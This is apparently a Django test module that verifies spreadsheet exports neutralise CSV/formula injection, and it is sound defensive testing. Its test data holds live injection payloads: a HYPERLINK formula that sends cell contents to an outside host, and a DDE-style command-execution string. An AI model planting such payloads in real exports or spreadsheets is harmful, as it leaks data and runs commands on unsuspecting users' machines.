"""CSV and XLSX exports cannot be turned into formulas (CSV injection).

Every export goes through ``core.exports``: a text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading ``'``; CSV cells are all
quoted, separated by ``;``, UTF-8 with a BOM; XLSX text cells are strings, never
formulas. Hostile text is put where each export takes text from the database (a
username, a detail, a province's and a gemeente's name) and must come out
neutralised. A new export URL fails ``test_every_export_url_is_checked`` until it is
added here.
"""

import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core import exports
from core.constants import AuditAction
from core.models import AuditEvent
from tests.factories import GemeenteFactory, ProvinceFactory, RegionFactory
from tests.security.test_authorisation_matrix import project_urls

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.org/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]

# Every URL that hands out a file, and how this test treats it.
EXPORT_URLS = {
    "security:access_log_export": "CSV: checked below",
    "outreach:figures": "CSV and XLSX: checked below",
    "outreach:export": "CSV and XLSX: checked below",
    "security_case:subject_access": "JSON (AVG art. 15), not a spreadsheet",
    "ambassadors:application_cv": "the applicant's own PDF or DOCX, passed as is",
    "signals:report_download": "CSV and XLSX through core.exports.csv_bytes / "
    "xlsx_workbook (tests/signals/test_exports_language.py)",
}
EXPORT_ROUTE = re.compile(r"csv|xlsx|export|download|inzage|/cv/", re.IGNORECASE)


def test_every_export_url_is_checked():
    found = {name for name, route in project_urls() if EXPORT_ROUTE.search(route)}
    assert found == set(EXPORT_URLS)


# --- the helper -------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_neutralises_every_formula_start(text):
    assert exports.safe_cell(text) == "'" + text
    assert exports.safe_text(text) == "'" + text


def test_safe_cell_keeps_harmless_text_numbers_and_dates():
    from datetime import date
    from decimal import Decimal

    assert exports.safe_cell("Gerda") == "Gerda"
    assert exports.safe_cell("a=b") == "a=b"
    assert exports.safe_cell(None) == ""
    assert exports.safe_cell(-3) == -3
    assert exports.safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert exports.safe_cell(date(2026, 12, 6)) == date(2026, 12, 6)
    assert exports.safe_cell(True) == "True"


def test_csv_bytes_is_quoted_semicolon_utf8_with_bom():
    body = exports.csv_bytes(["naam", "aantal"], [[HOSTILE[0], 3], ["Zoë", -1]])
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[0] == '"naam";"aantal"'
    assert lines[2] == '"Zoë";"-1"'
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == ["'" + HOSTILE[0], "3"]


def test_xlsx_append_writes_text_never_a_formula():
    workbook = Workbook()
    sheet = workbook.active
    exports.xlsx_append(sheet, HOSTILE)
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [cell.value for cell in row] == [_in_xlsx("'" + text) for text in HOSTILE]
    assert {cell.data_type for cell in row} == {"s"}


# --- the exports ------------------------------------------------------------------


def _csv_cells(content: bytes) -> list[str]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
    text = content.decode("utf-8-sig")
    first = text.split("\r\n", 1)[0]
    assert first.startswith('"'), "every cell quoted"
    assert '";"' in first, "';' between cells"
    rows = csv.reader(io.StringIO(text), delimiter=";")
    return [cell for row in rows for cell in row]


def _in_xlsx(text: str) -> str:
    """XML keeps no bare carriage return: an XLSX cell reads it back as a newline."""
    return text.replace("\r", "\n")


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _assert_neutralised_csv(content: bytes, hostile=HOSTILE):
    cells = _csv_cells(content)
    for text in hostile:
        assert "'" + text in cells, repr(text)
    assert not [c for c in cells if c[:1] in exports.FORMULA_STARTS], cells


def _assert_neutralised_xlsx(content: bytes, hostile=HOSTILE):
    cells = _xlsx_cells(content)
    values = [cell.value for cell in cells]
    for text in hostile:
        assert _in_xlsx("'" + text) in values, repr(text)
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert cell.value[:1] not in exports.FORMULA_STARTS, cell.value


def test_access_log_export(client, privacy_officer, advisor):
    for text in HOSTILE:
        AuditEvent.objects.create(
            actor=advisor,
            actor_username=text,
            action=AuditAction.VIEW,
            object_type="case",
            object_id=1,
            detail=text,
        )
    client.force_login(privacy_officer)
    response = client.get(reverse("security:access_log_export"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    _assert_neutralised_csv(b"".join(response.streaming_content))


@pytest.fixture
def hostile_places(db):
    """A province and gemeenten with hostile names (the names are in both exports)."""
    region = RegionFactory()
    province = ProvinceFactory(code="PV99", name=HOSTILE[0])
    for number, text in enumerate(HOSTILE):
        GemeenteFactory(
            province=province, region=region, code=f"GM99{number:02d}", name=text
        )
    return province


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_outreach_campaign_export(client, coordinator, hostile_places, fmt):
    client.force_login(coordinator)
    response = client.get(reverse("outreach:export", args=[fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        _assert_neutralised_csv(response.content)
    else:
        _assert_neutralised_xlsx(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_outreach_figures_export(client, coordinator, hostile_places, fmt):
    client.force_login(coordinator)
    response = client.get(reverse("outreach:figures", args=[fmt]))
    assert response.status_code == 200
    province_name = [HOSTILE[0]]
    if fmt == "csv":
        _assert_neutralised_csv(response.content, province_name)
    else:
        _assert_neutralised_xlsx(response.content, province_name)


def test_the_avg_export_is_json_not_a_spreadsheet(client, advisor, case):
    client.force_login(advisor)
    response = client.post(
        reverse("security_case:subject_access", args=[case.office_holder_id]),
        {"reason": "=HYPERLINK(1)"},
    )
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].endswith('.json"')
